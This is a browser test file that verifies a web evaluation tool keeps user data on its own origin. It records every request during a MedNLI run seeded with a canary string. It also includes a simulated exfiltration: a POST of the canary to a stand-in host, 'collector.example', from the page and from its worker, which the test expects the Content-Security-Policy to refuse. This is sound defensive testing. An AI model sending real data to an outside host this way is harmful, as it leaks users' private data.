// The privacy promise, checked where it matters: behind `clue serve` (which sends the page's
// Content-Security-Policy as a header) and as the static site (scripts/site) behind a plain
// static server that sends no headers at all (the policy is then only the page's <meta> tag, and the worker holds it only because it
// inherits it). Every request of the page and of its worker is recorded while an evaluation and
// a Rescore run on a MedNLI file whose ids and sentences carry a unique canary string; then:
// only this origin (the chosen model, the default one, is served there), only GETs, no body, the
// canary nowhere. A fetch to a foreign origin, from the page and from the worker, is refused by
// the policy: the origin is routed to a fake server that would answer, so the refusal is the
// policy's and not the closed network's.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { baseUrl, launch, openPage, setUpEvaluation, siteDir, startStaticServer, waitForRunEnd, writeShortMednli } from './chromium.mjs';

const FOREIGN = 'https://collector.example';

/** A MedNLI file of four short made-up pairs (three are the shots) and predictions for it, all carrying `canary`. */
function canaryFiles(canary) {
  const dir = mkdtempSync(join(tmpdir(), 'clue-privacy-'));
  const data = join(dir, 'mednli.jsonl');
  const ids = writeShortMednli(data, { mark: canary });
  const predictions = join(dir, 'predictions.jsonl');
  writeFileSync(predictions, ids.map((id) => JSON.stringify({ id, prediction: `neutral ${canary}` })).join('\n') + '\n');
  return { data, predictions };
}

/** What `fetch(url)` from `where` (the page or its worker) gives: 'answered' or the error. */
function tryFetch(where, url) {
  return where.evaluate((url) => fetch(url, { method: 'POST', body: 'x' }).then(() => 'answered', (e) => `refused: ${e}`), url);
}

async function checkPrivacy(url) {
  const canary = `CANARY${randomBytes(8).toString('hex')}`;
  const { data, predictions } = canaryFiles(canary);
  const origin = new URL(url).origin;
  const browser = await launch();
  try {
    const context = await browser.newContext();
    const foreignHits = [];
    await context.route(`${FOREIGN}/**`, (route) => {
      foreignHits.push(route.request().url());
      return route.fulfill({
        status: 200,
        headers: { 'Access-Control-Allow-Origin': '*', 'Cross-Origin-Resource-Policy': 'cross-origin' },
        body: 'ok',
      });
    });
    const requests = [];
    context.on('request', (request) => requests.push({ url: request.url(), method: request.method(), body: request.postDataBuffer() }));

    const page = await openPage(context, url);
    await setUpEvaluation(page, { tasks: ['mednli'], limit: 1, backend: 'cpu', data: { mednli: data } });
    await page.click('#run-eval');
    await waitForRunEnd(page, 600_000);
    await page.setInputFiles('#rescore-data', data);
    await page.setInputFiles('#rescore-predictions', predictions);
    await page.click('#rescore-run');
    await page.waitForSelector('#rescore[data-state="done"], #rescore[data-state="error"]', { timeout: 60_000 });
    assert.equal(await page.getAttribute('#rescore', 'data-state'), 'done', await page.textContent('#rescore-status'));
    assert.match(await page.textContent('#samples'), new RegExp(canary), 'the evaluation did read the canary file');

    // The worker's requests are in the record: the model is fetched by the worker alone.
    const model = new URL('models/SmolLM2-135M-Instruct.Q4_1.gguf', url).href;
    assert.ok(requests.some((r) => r.url === model), `the model's download is recorded: ${requests.map((r) => r.url).join(', ')}`);
    for (const { url: requested, method, body } of requests) {
      assert.ok(requested.startsWith('blob:') ? requested.startsWith(`blob:${origin}/`) : new URL(requested).origin === origin,
        `${requested} is not of this origin`);
      assert.equal(method, 'GET', requested);
      assert.equal(body, null, `${requested} has a body`);
      assert.ok(!requested.includes(canary), `${requested} carries the canary`);
    }

    const workers = page.workers();
    assert.equal(workers.length, 1, 'the page has its one worker');
    for (const [where, from] of [[page, 'page'], [workers[0], 'worker']]) {
      const outcome = await tryFetch(where, `${FOREIGN}/${from}?${canary}`);
      assert.match(outcome, /^refused/, `a fetch from the ${from} to a foreign origin was ${outcome}`);
    }
    assert.deepEqual(foreignHits, [], 'the foreign origin was never reached');
    assert.deepEqual(page.errors, []);
  } finally {
    await browser.close();
  }
}

test('behind clue serve, nothing but this origin is reached and the data never leaves', { timeout: 900_000 }, async () => {
  await checkPrivacy(baseUrl());
});

test('the static site behind a server that sends no headers: the worker is bound by the page\'s policy too', { timeout: 900_000 }, async () => {
  const server = await startStaticServer(siteDir());
  try {
    await checkPrivacy(server.url);
  } finally {
    await server.close();
  }
});
